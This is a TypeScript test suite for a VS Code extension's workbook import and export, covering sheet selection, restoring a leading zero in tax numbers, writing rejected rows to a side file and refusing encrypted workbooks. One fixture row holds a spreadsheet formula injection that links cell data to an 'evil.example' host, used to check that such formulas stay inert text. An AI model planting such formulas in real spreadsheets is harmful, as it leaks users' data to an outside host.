// Workbooks (.xlsx) in a real extension host against an in-process sandbox: the import of a workbook
// with two sheets (the user picks one), a VKN stored as a number and a bad row, whose rejected rows go
// to a workbook beside it; the customer export, and the bulk check's results, saved as workbooks; an
// encrypted workbook refused with a clear message.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { PaletteCommands, TreeCommands } from '../../src/constants';
import type { BulkCheckResult } from '../../src/commands/registry/bulkCheck';
import type { ImportSummary } from '../../src/commands/customers/importCustomers';
import { completeVkn } from '../../src/domain/taxId';
import { readWorkbook } from '../../src/domain/xlsxRead';
import { writeWorkbook } from '../../src/domain/xlsxWrite';
import { ScriptedPrompts } from '../support/scriptedPrompts';
import type { SandboxHandle } from '../support/sandbox';
import { startSandboxSuite } from '../support/sandboxSuite';

/** A fresh VKN that starts with 0 (stored as a number it loses that zero), and fresh ones without. */
let seed = 73_500_000;
const zeroVkn = (): string => completeVkn('0' + String(++seed).slice(-8));
const freshVkn = (): string => completeVkn(String(++seed + 600_000_000));

suite('Workbooks (.xlsx): import, rejected rows, exports', function () {
  this.timeout(60_000);
  let sandbox: SandboxHandle;
  let tmp: string;
  const prompts = new ScriptedPrompts();
  let close: () => Promise<void> = async () => undefined;

  suiteSetup(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'nilvera-xlsx-'));
    ({ sandbox, close } = await startSandboxSuite({ customers: 30, seed: 41 }, prompts));
  });

  suiteTeardown(async () => {
    await close();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  setup(() => prompts.reset());

  test('import of a workbook: the picked sheet, a VKN stored as a number read with its zero, the bad row in <name>.rejected.xlsx', async () => {
    const stored = zeroVkn();
    const good = freshVkn();
    const hostile = '=HYPERLINK("https://evil.example/?"&A1;"Ayrıntı")';
    // Built by our writer, then the VKN cell turned into a number cell, as Excel stores a typed number.
    const bytes = await writeWorkbook([
      { name: 'Notlar', header: ['Bu sayfada müşteri yok'], rows: [] },
      { name: 'Müşteriler', header: ['Ünvan', 'VKN/TCKN', 'İl'], rows: [['Şahin Gıda A.Ş.', Number(stored), 'Ankara'], ['Güneş Tekstil Ltd. Şti.', good, 'İzmir'], [hostile, '1234567891', 'İstanbul']] },
    ]);
    const source = path.join(tmp, 'müşteriler.xlsx');
    fs.writeFileSync(source, bytes);
    prompts.pick = (items) => items.find((i) => i.label === 'Müşteriler');
    const summary = await vscode.commands.executeCommand<ImportSummary>(TreeCommands.customersImport, vscode.Uri.file(source));
    assert.deepEqual(prompts.offeredLabels(), [['Notlar', 'Müşteriler']]);
    const rejectedFile = path.join(tmp, 'müşteriler.rejected.xlsx');
    assert.deepEqual(
      { created: summary.created, rejected: summary.rejected, restored: summary.restoredTaxNumbers, rejectedFile: summary.rejectedFile },
      { created: 2, rejected: 1, restored: 1, rejectedFile },
      JSON.stringify(prompts.messages),
    );
    const finished = prompts.messages.find((m) => m.text.startsWith('Import finished: 2 created, 1 rejected'));
    assert.ok(finished, JSON.stringify(prompts.messages));
    assert.match(finished.text, /1 tax number\(s\) stored as numbers had lost their leading zero and were read with it, as their check digits show \(sheet rows 2\)\./);
    const res = await fetch(`${sandbox.url}/general/Customers/GetCustomerInfo/${stored}`, { headers: { Authorization: `Bearer ${sandbox.keys.full}`, Accept: 'application/json' } });
    assert.equal(res.status, 200, `${stored} was created with its leading zero`);

    const rejected = await (await readWorkbook(fs.readFileSync(rejectedFile))).readSheet();
    assert.deepEqual(rejected.rows.map((r) => r.cells.map((c) => c.text)), [
      ['Ünvan', 'VKN/TCKN', 'İl', 'Reason'],
      [hostile, '1234567891', 'İstanbul', 'Invalid VKN 1234567891: the 10th digit should be 0 for these first nine digits.'],
    ]);
    assert.deepEqual(rejected.rows[1].cells.map((c) => c.kind), ['text', 'text', 'text', 'text'], 'text cells: the formula is never run');
  });

  test('an encrypted workbook is refused with a message that says what to do', async () => {
    const source = path.join(tmp, 'parolalı.xlsx');
    const ole = Buffer.alloc(2048);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(ole);
    fs.writeFileSync(source, ole);
    await vscode.commands.executeCommand(TreeCommands.customersImport, vscode.Uri.file(source));
    const error = prompts.messages.find((m) => m.level === 'error');
    assert.ok(error, JSON.stringify(prompts.messages));
    assert.match(error.text, /^Cannot import parolalı\.xlsx: The workbook is password-protected .*save it as an \.xlsx workbook\./);
  });

  test('the customer export offers a workbook and a CSV, and writes the workbook with text cells', async () => {
    const target = path.join(tmp, 'customers.xlsx');
    prompts.saveFile = vscode.Uri.file(target);
    const summary = await vscode.commands.executeCommand<{ written: number; path: string }>(TreeCommands.customersExport);
    assert.deepEqual(Object.values(prompts.saveDialogs[0].filters ?? {}), [['csv'], ['xlsx']], 'CSV first in English');
    assert.equal(summary.path, target);
    const sheet = await (await readWorkbook(fs.readFileSync(target))).readSheet();
    assert.equal(sheet.rows.length, summary.written + 1);
    assert.deepEqual(sheet.rows[0].cells.slice(0, 2).map((c) => c.text), ['TaxNumber', 'Name']);
    assert.ok(summary.written >= 30);
    assert.ok(sheet.rows.slice(1).every((r) => r.cells[0].kind === 'text' && /^[0-9]{10,11}$/.test(r.cells[0].text)));
    assert.ok(prompts.messages.some((m) => m.text === `Exported ${summary.written} customers to ${target}.`), JSON.stringify(prompts.messages));
  });

  test('the bulk check\'s "Save Results…" writes a workbook: a tax number keeps its leading zero', async () => {
    const target = path.join(tmp, 'bulk.xlsx');
    prompts.saveFile = vscode.Uri.file(target);
    prompts.answer = (actions) => actions.find((a) => a === 'Save Results…');
    await vscode.commands.executeCommand<BulkCheckResult>(PaletteCommands.registryBulkCheck, { text: '0730871159\n1234567891\n', userType: 'Invoice', noDocument: true });
    // The save runs after the summary's button is answered.
    for (let waited = 0; !prompts.messages.some((m) => m.text.startsWith('Bulk check results saved')) && waited < 20_000; waited += 100) await new Promise((r) => setTimeout(r, 100));
    assert.ok(prompts.messages.some((m) => m.text === `Bulk check results saved to ${target}.`), JSON.stringify(prompts.messages));
    const sheet = await (await readWorkbook(fs.readFileSync(target))).readSheet();
    assert.deepEqual(sheet.rows.map((r) => r.cells[0].text), ['Tax number', '0730871159', '1234567891']);
    assert.deepEqual(sheet.rows.map((r) => r.cells[1].text).slice(1), ['not registered', 'invalid checksum']);
  });
});
